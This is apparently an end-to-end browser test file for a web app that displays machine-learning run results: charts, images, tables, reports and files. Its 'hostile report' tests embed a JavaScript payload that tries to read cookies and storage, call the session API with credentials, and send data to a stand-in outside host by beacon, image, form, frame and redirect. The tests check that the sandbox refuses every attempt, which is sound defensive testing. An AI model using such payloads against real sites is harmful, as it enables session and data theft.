"""What runs left, in a real browser: every view, for the eye and for the keyboard, and a hostile report."""

import io
import math
import re
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from uuid import UUID

import httpx
import pytest
from PIL import Image
from playwright.sync_api import Browser, Locator, Page, expect
from sklearn.datasets import load_iris

from e2e.stage import Person, Stage, accessibility_faults, shoot, visit
from support import leavings, server

IRIS = load_iris(as_frame=True).frame
CURVES = {
    "loss": [(step, math.exp(-step / 20)) for step in range(100)],
    "accuracy": [(step, 1 - math.exp(-step / 30)) for step in range(100)],
    "images": [(0, 120.0)],
}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="teal"/></svg>'
REPORT = """<!doctype html><h1>Drawn by a script</h1><p id="said">nothing</p>
<script>document.getElementById("said").textContent = `six times seven is ${6 * 7}`</script>"""
HOSTILE = """<!doctype html><ol id="tried"></ol><script>
const say = (what, how) => {
  const line = document.createElement("li");
  line.textContent = `${what}: ${how}`;
  document.getElementById("tried").append(line);
};
const attempt = async (what, act) => {
  try { say(what, `got ${await act()}`); } catch (error) { say(what, "refused"); }
};
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("page", () => parent.document.title);
  await attempt("api", async () => (await fetch("/api/v1/session", { credentials: "include" })).status);
  await attempt("absolute api", async () => (await fetch("SITE/api/v1/runs", { credentials: "include" })).status);
  await attempt("beacon", () => {
    if (!navigator.sendBeacon("ELSEWHERE/beacon", "x")) throw new Error("no");
    return new Promise((resolve, reject) => {
      addEventListener("securitypolicyviolation", reject, { once: true });
      setTimeout(() => resolve("sent"), 3000);
    });
  });
  await attempt("picture", () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = reject;
    image.src = "ELSEWHERE/picture";
  }));
  await attempt("worker", () => new Worker("ELSEWHERE/worker"));
  await attempt("top", () => { top.location = "ELSEWHERE/top"; throw new Error("still here"); });
  await attempt("window", () => { if (!open("ELSEWHERE/window")) throw new Error("none"); return "opened"; });
  await attempt("frame", () => new Promise((resolve, reject) => {
    addEventListener("securitypolicyviolation", reject, { once: true });
    const frame = document.createElement("iframe");
    frame.onload = () => resolve("loaded");
    frame.src = "ELSEWHERE/frame";
    document.body.append(frame);
  }));
  await attempt("form", () => new Promise((resolve, reject) => {
    const form = document.createElement("form");
    form.action = "ELSEWHERE/form";
    document.body.append(form);
    form.submit();
    setTimeout(reject, 500);
  }));
  say("end", "reached");
})();
</script>"""
ATTEMPTS = 12


def picture(number: int) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (64, 48), (number * 2 % 256, 120, 255 - number * 2 % 256)).save(target, "PNG")
    return target.getvalue()


FILES = {
    "iris.csv": IRIS.to_csv(index=False).encode(),
    "iris.parquet": IRIS.to_parquet(),
    **{f"pictures/p{number:03}.png": picture(number) for number in range(120)},
    "report.html": REPORT.encode(),
    "figure.svg": SVG.encode(),
    "notes.txt": "größe\n".encode("latin-1"),
    "long.txt": "".join(f"line {n}\n" for n in range(40_000)).encode(),
    "facts.json": b'{"classes": ["a", "b"]}',
    "model.bin": bytes(1000),
}


@dataclass(frozen=True)
class Scene:
    place: Stage
    me: Person
    run: UUID

    def report(self, text: str) -> UUID:
        """A run that left one."""
        return leavings.leave(server.shared("sqlite"), self.me.username, {"report.html": text.encode()})


@pytest.fixture(scope="module")
def scene() -> Scene:
    running = server.shared("sqlite")
    me = Person(*running.account())
    place = Stage(running.url, me, me, address="", dataset="", operation="", run="")
    return Scene(place, me, leavings.leave(running, me.username, FILES, CURVES))


@pytest.fixture
def page(browser: Browser, scene: Scene) -> Iterator[Page]:
    with visit(browser, scene.place, who=scene.me) as opened:
        opened.goto(f"/runs/{scene.run}")
        expect(opened.get_by_role("tablist", name="Results")).to_be_visible()
        yield opened


def tab(page: Page, name: str) -> Locator:
    page.get_by_role("tab", name=re.compile(name)).click()
    return page.get_by_role("tabpanel")


def widths(grid: Locator) -> Locator:
    """The cells of the second column; before the first is the number of the row."""
    return grid.locator("tbody tr td:nth-child(3)")


def test_metrics_are_charts(page: Page) -> None:
    loss = page.get_by_role("img", name=re.compile("^loss by step"))
    expect(loss).to_have_accessible_name(re.compile(r"from 0\.00\d+ to 1"))
    expect(loss.locator("canvas").first).to_be_visible()
    expect(page.get_by_role("row", name="images 120")).to_be_visible()


def test_pictures_are_enlarged_by_mouse_and_keyboard(page: Page) -> None:
    panel = tab(page, "Pictures")
    first = panel.get_by_role("button", name="Enlarge pictures/p000.png")
    expect(first.locator("img")).to_have_js_property("complete", True)
    assert first.locator("img").evaluate("image => image.naturalWidth") == 64
    assert panel.get_by_role("listitem").count() < 120
    first.focus()
    page.keyboard.press("ArrowRight")
    expect(panel.get_by_role("button", name="Enlarge pictures/p001.png")).to_be_focused()
    page.keyboard.press("End")
    expect(panel.get_by_role("button", name="Enlarge pictures/p119.png")).to_be_focused()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog", name="pictures/p119.png")
    expect(dialog.get_by_role("img", name="pictures/p119.png")).to_be_visible()
    page.keyboard.press("ArrowLeft")
    dialog = page.get_by_role("dialog", name="pictures/p118.png")
    expect(dialog.get_by_text("119 of 120")).to_be_visible()
    assert accessibility_faults(page) == []
    shoot(page, "40-picture")
    page.keyboard.press("Escape")
    expect(panel.get_by_role("button", name="Enlarge pictures/p118.png")).to_be_focused()


def test_a_table_is_sorted_filtered_and_paged(page: Page) -> None:
    panel = tab(page, "Tables")
    grid = panel.get_by_role("region", name="Rows of iris.csv")
    expect(grid.get_by_role("img", name="Distribution of sepal width (cm)")).to_be_visible()
    expect(widths(grid).first).to_have_text("3.5")
    panel.get_by_role("button", name="Sort by sepal width (cm)").click()
    expect(widths(grid).first).to_have_text("2")
    panel.get_by_role("button", name="Sort by sepal width (cm)").click()
    expect(widths(grid).first).to_have_text("4.4")
    expect(grid.get_by_role("columnheader", name=re.compile("sepal width"))).to_have_attribute(
        "aria-sort", "descending"
    )
    expect(panel.get_by_text("1–100 of 150 rows")).to_be_visible()
    panel.get_by_role("button", name="Next page").click()
    expect(panel.get_by_text("101–150 of 150 rows")).to_be_visible()
    panel.get_by_role("button", name="Filter by target").click()
    form = page.get_by_role("dialog", name="Filter by target")
    form.get_by_label("Value").fill("2")
    form.get_by_label("Value").press("Enter")
    expect(panel.get_by_text("1–50 of 50 rows that match")).to_be_visible()
    assert accessibility_faults(page) == []
    shoot(page, "41-table")
    panel.get_by_role("button", name="Remove the filter on target").click()
    expect(panel.get_by_text("of 150 rows")).to_be_visible()


def test_a_filter_that_does_not_fit_says_so_and_keeps_the_rows(page: Page) -> None:
    panel = tab(page, "Tables")
    panel.get_by_role("button", name="Filter by target").click()
    page.get_by_role("dialog", name="Filter by target").get_by_label("Value").fill("many")
    page.keyboard.press("Enter")
    expect(panel.get_by_role("alert")).to_contain_text("“target” holds numbers; “many” is none.")
    expect(widths(panel.get_by_role("region", name="Rows of iris.csv")).first).to_be_visible()


def test_a_report_draws_and_a_picture_of_lines_is_shown(page: Page) -> None:
    panel = tab(page, "Reports")
    panel.get_by_role("combobox", name="Reports").click()
    page.get_by_role("option", name="report.html").click()
    frame = page.frame_locator("iframe[title='report.html']")
    expect(frame.get_by_text("six times seven is 42")).to_be_visible()
    panel.get_by_role("combobox", name="Reports").click()
    page.get_by_role("option", name="figure.svg").click()
    image = page.frame_locator("iframe[title='figure.svg']").get_by_role("img", name="figure.svg")
    expect(image).to_be_visible()
    assert image.evaluate("image => image.naturalWidth") == 40


def test_texts_json_and_other_files(page: Page) -> None:
    panel = tab(page, "Files")
    panel.get_by_role("textbox", name="Find files").fill("t")
    panel.get_by_role("button", name="notes.txt").click()
    expect(panel.get_by_label("notes.txt").get_by_text("größe")).to_be_visible()
    panel.get_by_role("button", name="notes.txt").click()
    panel.get_by_role("button", name="long.txt").click()
    expect(panel.get_by_text("The beginning of 429 KB")).to_be_visible()
    panel.get_by_role("button", name="Show the end").click()
    expect(panel.get_by_label("long.txt").get_by_text("line 39999")).to_be_visible()
    panel.get_by_role("textbox", name="Find files").fill("facts")
    panel.get_by_role("button", name="facts.json").click()
    expect(panel.get_by_label("facts.json").last).to_contain_text('"classes": [')
    panel.get_by_role("textbox", name="Find files").fill("model")
    with page.expect_download() as one:
        panel.get_by_role("link", name="Download model.bin").click()
    assert one.value.path().read_bytes() == FILES["model.bin"]
    assert accessibility_faults(page) == []


def test_everything_as_one_download(page: Page) -> None:
    with page.expect_download() as whole:
        page.get_by_role("button", name="Download all").click()
    with zipfile.ZipFile(whole.value.path()) as archive:
        assert {info.filename: archive.read(info) for info in archive.infolist()} == FILES


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_small_windows_and_both_schemes(browser: Browser, scene: Scene, scheme: str) -> None:
    size = {"width": 360, "height": 740}
    with visit(browser, scene.place, who=scene.me, viewport=size, color_scheme=scheme) as page:
        page.goto(f"/runs/{scene.run}")
        for name in ("Pictures", "Tables", "Reports", "Files"):
            tab(page, name)
            expect(page.get_by_role("tabpanel").locator("img, td, iframe, li").first).to_be_visible()
            assert page.evaluate("document.documentElement.scrollWidth") <= 360, name
            assert accessibility_faults(page) == [], name
            shoot(page, f"42-{name.lower()}-{scheme}")


def test_a_hostile_report_reaches_nothing(browser: Browser, scene: Scene) -> None:
    called: list[str] = []
    with listening(called) as elsewhere, visit_quietly(browser, scene) as page:
        run = scene.report(HOSTILE.replace("SITE", scene.place.url).replace("ELSEWHERE", elsewhere))
        page.goto(f"/runs/{run}")
        frame = page.frame_locator("iframe[title='report.html']")
        expect(frame.get_by_text("end: reached")).to_be_visible()
        told = dict(line.split(": ", 1) for line in frame.get_by_role("listitem").all_inner_texts())
        assert told.pop("end") == "reached"
        assert told == dict.fromkeys(told, "refused")
        assert len(told) == ATTEMPTS
        assert page.url.endswith(f"/runs/{run}")
        assert len(page.context.pages) == 1
        assert httpx.get(f"{elsewhere}/here").status_code == 204
    assert called == ["/here"]


def test_a_report_cannot_go_elsewhere_with_its_frame(browser: Browser, scene: Scene) -> None:
    called: list[str] = []
    with listening(called) as elsewhere, visit_quietly(browser, scene) as page:
        run = scene.report(f"<h1>Here</h1><script>location = '{elsewhere}/?data'</script>")
        with page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
            page.goto(f"/runs/{run}")
        assert httpx.get(f"{elsewhere}/here").status_code == 204
    assert called == ["/here"]


@contextmanager
def visit_quietly(browser: Browser, scene: Scene) -> Iterator[Page]:
    """As ``visit``; what the browser says of refusals is expected."""
    context = browser.new_context(base_url=scene.place.url)
    body = {"username": scene.me.username, "password": scene.me.password}
    context.request.post("/api/v1/session", data=body, headers={"Origin": scene.place.url})
    yield context.new_page()
    context.close()


@contextmanager
def listening(called: list[str]) -> Iterator[str]:
    """Another site, which notes who calls; its address."""

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            called.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_port}"
        site.shutdown()
